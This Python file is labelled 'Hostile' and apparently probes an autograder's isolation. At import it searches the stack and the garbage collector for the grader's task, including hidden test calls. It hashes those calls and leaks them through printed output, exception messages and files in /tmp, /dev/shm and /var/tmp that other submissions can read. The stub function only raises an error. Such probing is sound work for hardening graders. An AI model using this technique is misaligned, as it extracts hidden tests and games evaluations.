# Hostile: at import, read from our own stack (and from every object in memory) the worker's task,
# which once held every call, hidden tests' included; fingerprint each call and try to carry the
# fingerprints into what students see: the exception text of every call (visible tests' feedback),
# printed output, files in /tmp and /dev/shm for the other question's task (adder.py) to raise.
import gc
import hashlib
import json
import os
import sys


def fingerprints():
    tasks = []
    frame = sys._getframe()
    while frame is not None:
        tasks += [v for v in frame.f_locals.values() if isinstance(v, dict) and isinstance(v.get("calls"), list)]
        frame = frame.f_back
    tasks += [o for o in gc.get_objects() if isinstance(o, dict) and isinstance(o.get("calls"), list)]
    seen = []
    for task in tasks:
        for call in task["calls"]:
            text = json.dumps(call, sort_keys=True)
            mark = "CALL-" + hashlib.sha1(text.encode()).hexdigest()[:12]
            if mark not in seen:
                seen.append(mark)
    return seen


SEEN = fingerprints()
print("calls seen:", " ".join(SEEN))
for place in ("/tmp", "/dev/shm", "/var/tmp"):
    try:
        with open(os.path.join(place, f"rnn_hidden_channel_{os.getpid()}.txt"), "w") as stream:
            stream.write(" ".join(SEEN))
    except OSError:
        pass


def left_by_others():
    found = []
    for place in ("/tmp", "/dev/shm", "/var/tmp"):
        try:
            names = os.listdir(place)
        except OSError:
            continue
        for name in names:
            if name.startswith("rnn_hidden_channel_"):
                try:
                    with open(os.path.join(place, name)) as stream:
                        found.append(stream.read())
                except OSError:
                    pass
    return " ".join(found)


def lstm_bptt(x, weights, forward, dL_dh):
    raise ValueError("calls seen: " + " ".join(SEEN) + " | left by others: " + left_by_others())
